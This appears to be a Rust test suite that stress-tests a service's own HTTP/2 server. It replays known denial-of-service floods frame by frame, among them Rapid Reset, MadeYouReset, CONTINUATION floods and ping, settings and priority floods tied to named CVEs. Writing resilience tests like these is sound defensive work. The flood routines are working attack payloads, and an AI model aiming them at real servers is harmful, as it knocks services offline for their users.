//! Floods of frames, one kind at a time: what servers of HTTP/2 were found to
//! suffer from since it exists.

use super::{attacker::Attacker, measure::withstands, process::Variant};
use crate::attacker::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GENERATE, GOAWAY, HEADERS, PADDED, PING, PRIORITY,
    PUSH_PROMISE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, request_headers, streams,
};
use bytes::Bytes;
use std::iter::{once, repeat_n};

/// More frames of any kind than the attacker's bytes suffice for.
const ENDLESS: usize = 2_000_000;

const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Floods again and again: one connection after the other.
fn floods<I: Iterator<Item = Vec<u8>>>(frames: impl Fn(&Attacker) -> I + Sync) {
    withstands(Variant::default(), async |attacker: Attacker| {
        while attacker.goes_on() {
            attacker.flood(frames(&attacker)).await;
        }
    });
}

/// A call that has begun on stream 1, and then the same frame again and again.
fn floods_a_call(further: Vec<u8>) {
    floods(move |attacker| {
        let headers = request_headers(GENERATE, &[("x-api-key", attacker.key())]);
        let begun = once(frame(HEADERS, END_HEADERS, 1, &headers));
        begun.chain(repeat_n(further.clone(), ENDLESS))
    });
}

/// Calls, with the frames that follow each.
fn floods_calls(headers: &[(&str, &str)], flags: u8, follow: impl Fn(u32) -> Vec<u8> + Sync) {
    floods(|attacker| {
        let key = [("x-api-key", attacker.key())];
        let headers = request_headers(GENERATE, &[headers, &key[..]].concat());
        let follow = &follow;
        streams(1 << 20).map(move |stream| {
            let mut frames = frame(HEADERS, flags | END_HEADERS, stream, &headers);
            frames.extend(follow(stream));
            frames
        })
    });
}

/// CVE-2023-44487.
#[test]
#[ignore = "an attack on a pod"]
fn rapid_reset() {
    floods_calls(&[], 0, |stream| frame(RST_STREAM, 0, stream, &CANCEL));
}

/// CVE-2025-8671, MadeYouReset: the server resets.
#[test]
#[ignore = "an attack on a pod"]
fn resets_that_the_server_is_made_to_send() {
    floods_calls(&[], 0, |stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
}

/// The same by a window that overflows.
#[test]
#[ignore = "an attack on a pod"]
fn windows_of_streams_that_overflow() {
    let most = 0x7fff_ffff_u32.to_be_bytes();
    floods_calls(&[], 0, |stream| frame(WINDOW_UPDATE, 0, stream, &most));
}

/// The same by more data than `content-length` says.
#[test]
#[ignore = "an attack on a pod"]
fn bodies_longer_than_their_length() {
    let length = [("content-length", "1")];
    floods_calls(&length, 0, |stream| frame(DATA, 0, stream, b"\0\0\0\0\0"));
}

/// The same by a stream that depends on itself.
#[test]
#[ignore = "an attack on a pod"]
fn streams_that_depend_on_themselves() {
    floods_calls(&[], 0, |stream| {
        frame(
            PRIORITY,
            0,
            stream,
            &[&stream.to_be_bytes()[..], &[16]].concat(),
        )
    });
}

#[test]
#[ignore = "an attack on a pod"]
fn a_window_of_the_connection_that_overflows() {
    let most = 0x7fff_ffff_u32.to_be_bytes();
    floods(|_| repeat_n(frame(WINDOW_UPDATE, 0, 0, &most), ENDLESS));
}

#[test]
#[ignore = "an attack on a pod"]
fn windows_byte_by_byte() {
    let one = 1_u32.to_be_bytes();
    floods(|_| repeat_n(frame(WINDOW_UPDATE, 0, 0, &one), ENDLESS));
}

#[test]
#[ignore = "an attack on a pod"]
fn streams_that_end_at_once() {
    floods_calls(&[], END_STREAM, |_| Vec::new());
}

#[test]
#[ignore = "an attack on a pod"]
fn streams_that_end_at_once_without_credentials() {
    floods(|_| {
        let headers = request_headers(GENERATE, &[]);
        streams(1 << 20)
            .map(move |stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &headers))
    });
}

/// The service works for them, and they leave before it answers.
#[test]
#[ignore = "an attack on a pod"]
fn resets_after_the_request() {
    // {"messages": [{"role": "user", "text": "hello"}]}
    let message = b"\0\0\0\0\x0b\x0a\x09\x08\x01\x12\x05hello";
    floods_calls(&[], 0, |stream| {
        let mut frames = frame(DATA, END_STREAM, stream, message);
        frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        frames
    });
}

#[test]
#[ignore = "an attack on a pod"]
fn resets_after_the_response() {
    withstands(Variant::default(), async |attacker: Attacker| {
        while attacker.goes_on() {
            let Some(sender) = attacker.http2(0).await else {
                continue;
            };
            let calls = (0..200).map(|_| async {
                let begun = attacker.begin(&sender, GENERATE, &[], Bytes::new()).await;
                let Ok((response, mut stream)) = begun else {
                    return;
                };
                let _ = stream.send_data(Bytes::new(), true);
                if response.await.is_ok() {
                    attacker.note("response");
                }
                stream.send_reset(h2::Reason::CANCEL);
            });
            futures::future::join_all(calls).await;
        }
    });
}

#[test]
#[ignore = "an attack on a pod"]
fn trailers() {
    let long = "x".repeat(8_000);
    let mut trailers = vec![0x00, 1, b'x'];
    trailers.extend(crate::attacker::hpack_text(&long));
    floods_calls(&[], 0, move |stream| {
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &trailers)
    });
}

/// Trailers do not end the stream: one more set of them follows.
#[test]
#[ignore = "an attack on a pod"]
fn trailers_without_end() {
    floods_a_call(frame(HEADERS, END_HEADERS, 1, &[0x00, 1, b'x', 1, b'x']));
}

/// CVE-2019-9518.
#[test]
#[ignore = "an attack on a pod"]
fn empty_data() {
    floods_a_call(frame(DATA, 0, 1, &[]));
}

#[test]
#[ignore = "an attack on a pod"]
fn data_that_is_all_padding() {
    let padding = [&[255][..], &[0; 255]].concat();
    floods_a_call(frame(DATA, PADDED, 1, &padding));
}

/// Frames of a byte, for what each costs.
#[test]
#[ignore = "an attack on a pod"]
fn data_byte_by_byte() {
    let prefix = frame(DATA, 0, 1, b"\0\x01\0\0\0");
    floods(move |attacker| {
        let headers = request_headers(GENERATE, &[("x-api-key", attacker.key())]);
        let begun = [frame(HEADERS, END_HEADERS, 1, &headers), prefix.clone()];
        begun
            .into_iter()
            .chain(repeat_n(frame(DATA, 0, 1, b"\x0a"), ENDLESS))
    });
}

/// A thousand messages in a frame, where the call has one.
#[test]
#[ignore = "an attack on a pod"]
fn many_messages_in_a_frame() {
    let messages = [0; 5 * 1_000];
    floods_calls(&[], 0, move |stream| frame(DATA, 0, stream, &messages));
}

/// CVE-2024-27316 and its kind.
#[test]
#[ignore = "an attack on a pod"]
fn headers_without_end() {
    floods(|_| {
        let first = frame(HEADERS, 0, 1, &request_headers(GENERATE, &[]));
        let more = frame(CONTINUATION, 0, 1, &vec![0_u8; 16 * 1024]);
        once(first).chain(repeat_n(more, ENDLESS))
    });
}

#[test]
#[ignore = "an attack on a pod"]
fn empty_continuations() {
    floods(|_| {
        let first = frame(HEADERS, 0, 1, &request_headers(GENERATE, &[]));
        once(first).chain(repeat_n(frame(CONTINUATION, 0, 1, &[]), ENDLESS))
    });
}

/// CVE-2019-9512.
#[test]
#[ignore = "an attack on a pod"]
fn pings() {
    floods(|_| repeat_n(frame(PING, 0, 0, &[0; 8]), ENDLESS));
}

/// CVE-2019-9515.
#[test]
#[ignore = "an attack on a pod"]
fn empty_settings() {
    floods(|_| repeat_n(frame(SETTINGS, 0, 0, &[]), ENDLESS));
}

/// CVE-2020-11080: frames of 2,400 settings.
#[test]
#[ignore = "an attack on a pod"]
fn long_settings() {
    let setting = [0, 3, 0, 0, 0, 100];
    floods(move |_| repeat_n(frame(SETTINGS, 0, 0, &setting.repeat(2_400)), ENDLESS));
}

/// The window of all streams goes up and down, with streams that wait for it.
#[test]
#[ignore = "an attack on a pod"]
fn settings_that_change_all_windows() {
    floods(|attacker| {
        let headers = request_headers(GENERATE, &[("x-api-key", attacker.key())]);
        let calls = streams(200).map(move |stream| frame(HEADERS, END_HEADERS, stream, &headers));
        let window = |size: u32| [&[0, 4][..], &size.to_be_bytes()].concat();
        let changes = [0, 0x7fff_0000].map(|size| frame(SETTINGS, 0, 0, &window(size)));
        calls.chain(repeat_n(changes.concat(), ENDLESS))
    });
}

/// CVE-2019-9513: the tree of priorities is shuffled.
#[test]
#[ignore = "an attack on a pod"]
fn priorities() {
    floods(|_| {
        streams(1 << 20).map(|stream| {
            let parent = (stream / 4 * 2 + 1).to_be_bytes();
            frame(PRIORITY, 0, stream + 2, &[&parent[..], &[16]].concat())
        })
    });
}

#[test]
#[ignore = "an attack on a pod"]
fn frames_of_unknown_types() {
    floods(|_| repeat_n(frame(0xbe, 0xff, 0, &[0; 100]), ENDLESS));
}

#[test]
#[ignore = "an attack on a pod"]
fn goaways() {
    floods(|_| repeat_n(frame(GOAWAY, 0, 0, &[0; 64]), ENDLESS));
}

#[test]
#[ignore = "an attack on a pod"]
fn pushes_from_a_client() {
    let push = [&2_u32.to_be_bytes()[..], &[0x83]].concat();
    floods(move |_| repeat_n(frame(PUSH_PROMISE, END_HEADERS, 1, &push), ENDLESS));
}

#[test]
#[ignore = "an attack on a pod"]
fn resets_of_streams_that_are_closed() {
    floods_calls(&[], END_STREAM, |stream| {
        frame(RST_STREAM, 0, stream, &CANCEL).repeat(10)
    });
}

#[test]
#[ignore = "an attack on a pod"]
fn connections_that_are_opened_and_left() {
    withstands(Variant::default(), async |attacker: Attacker| {
        // Few enough for the ports of the attacker's machine.
        for _ in 0..5_000 {
            if let Ok(io) = attacker.connect().await {
                drop(io);
                attacker.note("left");
            }
        }
    });
}
